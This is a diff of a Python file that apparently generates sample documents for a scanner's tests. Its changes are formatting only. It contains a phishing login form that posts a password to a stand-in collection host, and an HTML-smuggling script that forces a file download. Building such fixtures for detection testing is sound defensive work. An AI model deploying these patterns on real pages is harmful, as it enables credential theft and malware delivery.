@@ -82,7 +82,7 @@ def compound(streams: dict[str, bytes], class_id: bytes = b"\0" * 16) -> bytes:
         entries.append((parts[-1], 2, storages["/".join(parts[:-1])], data.ljust(4096, b"\0")))
     directory_sectors = (len(entries) * 128 + sector - 1) // sector
     bodies = b""
-    fat = [0xFFFFFFFD] + list(range(2, directory_sectors + 1)) + [0xFFFFFFFE]
+    fat = [0xFFFFFFFD, *range(2, directory_sectors + 1), 0xFFFFFFFE]
     starts: list[int] = []
     for _, sort, _, data in entries:
         if sort != 2:
@@ -130,7 +130,7 @@ def vba_project(code: str) -> bytes:
 
 
 _TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
-_RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'  # noqa: E501
+_RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
 _STORY = '<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body><w:p>{}</w:p></w:body></w:document>'
 
 
@@ -277,7 +277,10 @@ class Sample:
     finding: str = ""
 
 
-_LOGIN = "<form action='http://collect.example.invalid/p'><input name=e value='jo@example.org'><input type=password></form>"
+_LOGIN = (
+    "<form action='http://collect.example.invalid/p'>"
+    "<input name=e value='jo@example.org'><input type=password></form>"
+)
 _SMUGGLE = (
     "<script>var b=new Blob([atob('QUFB')]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"
 )
